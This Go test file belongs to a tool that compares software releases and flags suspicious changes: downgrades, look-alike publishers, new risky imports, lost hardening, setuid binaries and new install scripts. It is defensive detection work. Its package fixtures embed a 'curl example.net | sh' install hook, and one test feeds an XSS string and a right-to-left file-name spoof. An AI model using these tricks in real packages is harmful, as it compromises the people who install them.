package release

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/greatseal-io/greatseal/format"
	"github.com/greatseal-io/greatseal/format/all"
	"github.com/greatseal-io/greatseal/format/formattest"
	"github.com/greatseal-io/greatseal/internal/release/releasetest"
	"github.com/greatseal-io/greatseal/internal/server"
)

// views are files as a server shows them: planned by their formats, encoded, decoded.
func views(t testing.TB, files ...format.Artifact) []server.FileView {
	t.Helper()
	var items [][]byte
	for _, a := range files {
		f, ok := all.Detect(a)
		if !ok {
			t.Fatalf("%s is of no format", a.Name())
		}
		p, err := f.Plan(t.Context(), a, nil)
		if err != nil {
			t.Fatalf("%s: %v", a.Name(), err)
		}
		enc, err := p.Encode()
		if err != nil {
			t.Fatalf("%s: %v", a.Name(), err)
		}
		if n := len(enc) - len(p.Body); n > 16<<10 {
			t.Errorf("%s: a plan with %d bytes of facts", a.Name(), n)
		}
		b, err := (&format.Item{Plan: enc, Name: a.Name(), Claims: []format.Fact{}}).Encode()
		if err != nil {
			t.Fatal(err)
		}
		items = append(items, b)
	}
	out, err := server.Files(items, 0, len(items))
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func artifact(name string, b []byte) format.Artifact { return format.BytesArtifact(name, b) }

// has reports whether there is an alert of the code whose text holds part.
func has(alerts []Alert, code, part string) bool {
	return slices.ContainsFunc(alerts, func(a Alert) bool { return a.Code == code && strings.Contains(a.Text, part) })
}

func wants(t *testing.T, d *Difference, list ...[2]string) {
	t.Helper()
	for _, w := range list {
		if !has(d.Alerts, w[0], w[1]) {
			t.Errorf("no alert %s of %q among %+v", w[0], w[1], d.Alerts)
		}
	}
}

const hardened = releasetest.Hardened

// Two releases of a Windows program: the second imports more, is older, and has lost
// what protects it.
func TestProgram(t *testing.T) {
	words := func(v, company string) []string {
		return []string{"ProductName", "Example", "CompanyName", company, "FileVersion", v, "OriginalFilename", "app.exe"}
	}
	old := views(t, artifact("app-1.3.exe", releasetest.Program(hardened, []string{"KERNEL32.dll!ExitProcess"}, words("1.3.0.0", "Example Ltd"))))
	now := views(t, artifact("app-1.2.exe", releasetest.Program(0x40, []string{"KERNEL32.dll!ExitProcess", "KERNEL32.dll!CreateRemoteThread", "WS2_32.dll!WSAStartup"}, words("1.2.9.0", "Exarnple Ltd"))))
	d := Between(old, now, true)
	if d.Counts != (Counts{Changed: 1}) {
		t.Fatalf("%+v", d.Counts)
	}
	wants(t, d, [2]string{"version-down", "1.3.0.0 before, 1.2.9.0 now"}, [2]string{"publisher-changed", "Example Ltd → Exarnple Ltd"},
		[2]string{"new-import", "ws2_32.dll: network"}, [2]string{"new-import", "CreateRemoteThread: runs code in another process"},
		[2]string{"hardening-lost", "CFG"}, [2]string{"hardening-lost", "DEP"}, [2]string{"no-hardening", "DEP"})
	if d.Alerts[0].Severity != High || !strings.Contains(d.Summary, "high severity") {
		t.Errorf("%s %+v", d.Summary, d.Alerts[0])
	}
	// The way back is an honest release.
	if back := Between(now, old, true); has(back.Alerts, "version-down", "") || has(back.Alerts, "new-import", "") || has(back.Alerts, "hardening-lost", "") {
		t.Errorf("%+v", back.Alerts)
	}
	// Names and bytes that are the same are nothing.
	if d := Between(old, old, true); d.Counts != (Counts{Unchanged: 1}) || len(d.Files)+len(d.Alerts) != 0 {
		t.Errorf("%+v", d)
	}
}

func run(t *testing.T, prog, hint string, args ...string) {
	t.Helper()
	if out, err := formattest.RunJudge(t, formattest.Program(t, prog, hint), args...); err != nil {
		t.Fatalf("%s: %v: %s", prog, err, out)
	}
}

func write(t *testing.T, path, text string, mode os.FileMode) string {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, mode); err != nil {
		t.Fatal(err)
	}
	return path
}

func read(t *testing.T, path string) format.Artifact {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return artifact(filepath.Base(path), b)
}

// Packages by dpkg-deb.
func TestDebianPackages(t *testing.T) {
	build := func(version, maintainer, postinst string, setuid bool) format.Artifact {
		dir := t.TempDir()
		tree := filepath.Join(dir, "tree")
		mode := os.FileMode(0o755)
		if setuid {
			mode |= os.ModeSetuid
		}
		write(t, filepath.Join(tree, "usr/bin/hello"), "#!/bin/sh\necho hello\n", mode)
		write(t, filepath.Join(tree, "DEBIAN/control"), "Package: hello\nVersion: "+version+"\nArchitecture: all\nMaintainer: "+maintainer+"\nDescription: hello\n", 0o644)
		if postinst != "" {
			write(t, filepath.Join(tree, "DEBIAN/postinst"), "#!/bin/sh\n"+postinst+"\n", 0o755)
		}
		out := filepath.Join(dir, "hello_"+strings.ReplaceAll(version, ":", "%3a")+"_all.deb")
		run(t, "dpkg-deb", "dpkg", "-Zgzip", "--build", tree, out)
		return read(t, out)
	}
	old, now := views(t, build("1:2.0~rc1-1", "A <a@example.com>", "", false)), views(t, build("1:2.0~beta3-1", "M <m@example.net>", "curl example.net | sh", true))
	d := Between(old, now, true)
	wants(t, d, [2]string{"version-down", "1:2.0~rc1-1 before"}, [2]string{"publisher-changed", "M <m@example.net>"}, [2]string{"new-script", "after installing: /bin/sh"}, [2]string{"setuid", "/usr/bin/hello, mode 4755"})
	if d.Counts.Changed != 1 {
		t.Errorf("%+v", d.Counts)
	}
}

// Packages by rpmbuild.
func TestRPMPackages(t *testing.T) {
	build := func(version, script, requires string) format.Artifact {
		dir := t.TempDir()
		spec := write(t, filepath.Join(dir, "hello.spec"), "Name: hello\nVersion: "+version+"\nRelease: 1\nEpoch: 1\nSummary: hello\nLicense: MIT\nBuildArch: noarch\n"+requires+
			"\n%description\nhello\n%install\nmkdir -p %{buildroot}/usr/bin\necho hello > %{buildroot}/usr/bin/hello\n%files\n%attr(4755,root,root) /usr/bin/hello\n"+script, 0o644)
		run(t, "rpmbuild", "rpm", "-bb", "--quiet", "--define", "_topdir "+dir, "--define", "_rpmdir "+dir, "--define", "_build_name_fmt out.rpm", spec)
		a := read(t, filepath.Join(dir, "out.rpm"))
		b := make([]byte, a.Size())
		if err := format.ReadFull(a, b, 0); err != nil {
			t.Fatal(err)
		}
		return artifact("hello-"+version+"-1.noarch.rpm", b)
	}
	old, now := views(t, build("1.10", "", "")), views(t, build("1.9", "%post\ncurl example.net | sh\n", "Requires: telnet >= 2"))
	d := Between(old, now, true)
	wants(t, d, [2]string{"version-down", "1:1.10-1 before, 1:1.9-1 now"}, [2]string{"new-script", "after installing: /bin/sh"})
	if f := d.Files[0]; !slices.ContainsFunc(f.Changes, func(c Change) bool { return c.Group == groupImports && c.Kind == Added && c.New == "telnet >= 2" }) {
		t.Errorf("%+v", f.Changes)
	}
	if w := Warnings(&now[0]); !has(w, "setuid", "/usr/bin/hello, mode 4755") {
		t.Errorf("%+v", w)
	}
}

// Packages by aapt2.
func TestAndroidPackages(t *testing.T) {
	const framework = "/usr/share/android-framework-res/framework-res.apk"
	build := func(code, rest, attributes string) format.Artifact {
		dir := t.TempDir()
		in := write(t, filepath.Join(dir, "AndroidManifest.xml"), `<manifest xmlns:android="http://schemas.android.com/apk/res/android" package="com.example.app" android:versionCode="`+code+
			`" android:versionName="1.`+code+`"><uses-sdk android:minSdkVersion="24" android:targetSdkVersion="28"/>`+rest+`<application `+attributes+`/></manifest>`, 0o644)
		out := filepath.Join(dir, "app-1."+code+".apk")
		run(t, "aapt2", "apt-get install aapt android-framework-res", "link", "-I", framework, "--manifest", in, "-o", out)
		return read(t, out)
	}
	old := views(t, build("12", `<uses-permission android:name="android.permission.VIBRATE"/>`, `android:debuggable="false"`))
	now := views(t, build("11", `<uses-permission android:name="android.permission.INTERNET"/><uses-permission android:name="android.permission.READ_SMS"/>`, `android:debuggable="true" android:usesCleartextTraffic="true"`))
	d := Between(old, now, true)
	wants(t, d, [2]string{"version-down", "12 before, 11 now"}, [2]string{"new-permission", "android.permission.READ_SMS: reads messages"}, [2]string{"new-permission", "INTERNET: network"},
		[2]string{"debug-build", "debug build"}, [2]string{"cleartext", ""})
	if n := d.Files[0].New.Version; n != "1.11 (11)" {
		t.Error(n)
	}
}

// Installers by wixl.
func TestInstallers(t *testing.T) {
	build := func(version, manufacturer, more string) format.Artifact {
		dir := t.TempDir()
		write(t, filepath.Join(dir, "f.bin"), "content "+version, 0o644)
		write(t, filepath.Join(dir, "a.wxs"), `<?xml version='1.0' encoding='utf-8'?>
<Wix xmlns='http://schemas.microsoft.com/wix/2006/wi'>
  <Product Name='Foobar' Id='ABCDDCBA-86C7-4D14-AEC0-86416A69ABDE' UpgradeCode='ABCDDCBA-7349-453F-94F6-BCB5110BA4FD' Language='1033' Codepage='1252' Version='`+version+`' Manufacturer='`+manufacturer+`'>
    <Package Id='*' Keywords='Installer' Description='Foobar Installer' Manufacturer='Acme Ltd.' InstallerVersion='100' Languages='1033' Compressed='yes' SummaryCodepage='1252' />
    <Media Id='1' Cabinet='Sample.cab' EmbedCab='yes' />
    <Directory Id='TARGETDIR' Name='SourceDir'><Directory Id='ProgramFilesFolder' Name='PFiles'><Directory Id='INSTALLDIR' Name='Foobar'>
      <Component Id='Main' Guid='ABCDDCBA-83F1-4F22-985B-FDB3C8ABD471'><File Id='F' Name='f.bin' DiskId='1' Source='f.bin' KeyPath='yes'/></Component>
    </Directory></Directory></Directory>
    <Feature Id='Complete' Level='1'><ComponentRef Id='Main' /></Feature>`+more+`
  </Product>
</Wix>`, 0o644)
		c := exec.CommandContext(t.Context(), formattest.Program(t, "wixl", "apt-get install wixl"), "-o", "foobar-"+version+".msi", "a.wxs")
		c.Dir = dir // payloads are looked for there
		if out, err := c.CombinedOutput(); err != nil {
			t.Fatalf("wixl: %v: %s", err, out)
		}
		return read(t, filepath.Join(dir, "foobar-"+version+".msi"))
	}
	old, now := views(t, build("1.2.3", "Acme Ltd.", "")), views(t, build("1.2.2", "Acrne Ltd.", `<CustomAction Id='Evil' Property='X' Value='y'/>`))
	for _, f := range []string{"template", "cabinet", "product-version"} {
		if fact(&old[0], f) == "" {
			t.Errorf("no fact %s: %v", f, old[0].Facts)
		}
	}
	d := Between(old, now, true)
	wants(t, d, [2]string{"version-down", "1.2.3 before, 1.2.2 now"}, [2]string{"publisher-changed", "Acrne Ltd."}, [2]string{"new-script", "custom action: Evil: sets a property, type "})
}

// Archives by jar.
func TestArchives(t *testing.T) {
	build := func(version string, files ...string) format.Artifact {
		dir := t.TempDir()
		m := write(t, filepath.Join(dir, "m.txt"), "Implementation-Title: app\nImplementation-Version: "+version+"\nMain-Class: p.A\n", 0o644)
		for _, f := range files {
			write(t, filepath.Join(dir, "c", f), f+version, 0o644)
		}
		out := filepath.Join(dir, "app-"+version+".jar")
		run(t, "jar", "apt-get install default-jdk-headless", "cfm", out, m, "-C", filepath.Join(dir, "c"), ".")
		return read(t, out)
	}
	old, now := views(t, build("1.2.0", "p/A.class")), views(t, build("1.2.0-rc.1", "p/A.class", "native/x.so", "META-INF/services/java.sql.Driver"))
	d := Between(old, now, true)
	wants(t, d, [2]string{"version-down", "1.2.0-rc.1 now"}, [2]string{"new-native", "native/x.so"}, [2]string{"new-script", "java.sql.Driver"})
	if !slices.ContainsFunc(d.Files[0].Changes, func(c Change) bool { return c.Kind == Changed && strings.HasPrefix(c.Old, "p/A.class, ") }) {
		t.Errorf("%+v", d.Files[0].Changes)
	}
}

// Whatever a file says of itself: it stays text, short, on one line.
func TestHostileFacts(t *testing.T) {
	var imports []string
	for i := range 120 {
		imports = append(imports, "lib"+strings.Repeat("x", i%7)+string(rune('a'+i%26))+string(rune('a'+i/26))+".dll!f")
	}
	evil := "<script>alert(1)</script>\u202egnp.exe\x1b[2J"
	v := views(t, artifact("a.exe", releasetest.Program(0, append([]string{evil + ".dll!" + evil}, imports...)[:45], []string{"ProductName", evil, "FileVersion", "1\n2"})))
	n := 0
	for _, f := range v[0].Facts {
		n += len(f.Name) + len(f.Value)
		if strings.ContainsFunc(f.Value, format.Turns) {
			t.Errorf("%q", f)
		}
	}
	if n > 12<<10 || !bytes.Contains([]byte(fact(&v[0], "import")), []byte("<script>")) {
		t.Errorf("%d bytes, %v", n, v[0].Facts)
	}
}
